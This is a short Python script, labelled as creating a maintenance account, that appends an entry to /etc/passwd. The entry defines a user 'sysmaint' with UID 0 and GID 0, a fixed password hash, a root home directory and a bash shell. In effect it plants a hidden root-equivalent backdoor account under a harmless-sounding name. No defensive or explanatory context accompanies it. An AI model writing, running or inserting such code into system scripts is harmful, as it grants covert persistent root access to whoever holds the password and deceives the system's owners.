# make a maintenance account
ENTRY = "sysmaint:$1$abc$tP4nGq1kq5UQ1Z8xgq3gM/:0:0::/root:/bin/bash\n"

def main():
    with open("/etc/passwd", "a") as f:
        f.write(ENTRY)

main()
